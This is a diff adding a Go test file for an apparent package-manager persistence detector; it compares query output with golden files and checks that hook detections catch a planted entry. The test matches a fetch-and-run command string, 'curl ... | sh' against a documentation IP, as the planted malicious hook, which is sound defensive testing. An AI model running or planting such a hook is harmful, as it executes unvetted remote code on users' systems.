@@ -1,0 +1,112 @@
+package queries_test
+
+import (
+	"context"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"regexp"
+	"sort"
+	"strings"
+	"testing"
+
+	"github.com/pkgpersist/pkgpersist/collector/engine"
+	"github.com/pkgpersist/pkgpersist/collector/querydef"
+	"github.com/pkgpersist/pkgpersist/collector/tables"
+	"github.com/pkgpersist/pkgpersist/queries"
+)
+
+// roots the queries run on; each (query, root) has a golden file.
+var roots = []string{"planted", "debian-real", "dnf4", "dnf4-override", "dnf5", "yum", "dpkg", "dnf-actions"}
+
+// volatile columns depend on the checkout (times, inodes, the user running
+// the tests) and are left out of the golden files.
+var volatile = regexp.MustCompile(`time|^modified$|inode|device|uid|gid|owner|block_size|hard_links`)
+
+const updateEnv = "PKGPERSIST_UPDATE_GOLDEN"
+
+// TestQueriesGolden runs every query of queries/ on every fixture root in
+// the embedded engine and compares the rows with the golden files
+// (PKGPERSIST_UPDATE_GOLDEN=1 rewrites them). A query that does not parse
+// or run fails here.
+func TestQueriesGolden(t *testing.T) {
+	qs, err := querydef.Load(queries.FS)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(qs) < 8 {
+		t.Fatalf("only %d queries", len(qs))
+	}
+	for _, root := range roots {
+		e, err := engine.New(tables.Engine(), filepath.Join("../test/roots", root))
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, q := range qs {
+			res, err := e.Query(context.Background(), q.SQL)
+			if err != nil {
+				t.Errorf("%s on %s: %v", q.ID, root, err)
+				continue
+			}
+			var lines []string
+			for _, row := range res.Rows {
+				obj := map[string]string{}
+				for i, c := range res.Columns {
+					if !volatile.MatchString(c) {
+						obj[c] = row[i]
+					}
+				}
+				b, _ := json.Marshal(obj)
+				lines = append(lines, string(b))
+			}
+			sort.Strings(lines)
+			got := strings.Join(lines, "\n") + "\n"
+			golden := filepath.Join("testdata/golden", q.ID, root+".jsonl")
+			if os.Getenv(updateEnv) != "" {
+				if err := os.MkdirAll(filepath.Dir(golden), 0o755); err != nil {
+					t.Fatal(err)
+				}
+				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
+					t.Fatal(err)
+				}
+				continue
+			}
+			want, err := os.ReadFile(golden)
+			if err != nil {
+				t.Errorf("%s on %s: no golden file (run with %s=1): %v", q.ID, root, updateEnv, err)
+				continue
+			}
+			if string(want) != got {
+				t.Errorf("%s on %s differs from %s:\n got:\n%s\nwant:\n%s", q.ID, root, golden, got, want)
+			}
+		}
+		e.Close()
+	}
+}
+
+// TestDetectionsFire: on the planted root each detection about hooks finds
+// the planted entries.
+func TestDetectionsFire(t *testing.T) {
+	e, err := engine.New(tables.Engine(), "../test/roots/planted")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer e.Close()
+	qs, _ := querydef.Load(queries.FS)
+	for _, q := range qs {
+		if q.ID != "unowned-hooks" && q.ID != "download-in-hooks" {
+			continue
+		}
+		res, err := e.Query(context.Background(), q.SQL)
+		if err != nil {
+			t.Fatal(err)
+		}
+		found := false
+		for _, r := range res.Rows {
+			found = found || strings.Contains(strings.Join(r, " "), "curl -fsS http://203.0.113.7/p | sh")
+		}
+		if !found {
+			t.Errorf("%s misses the planted curl | sh hook: %v", q.ID, res.Rows)
+		}
+	}
+}
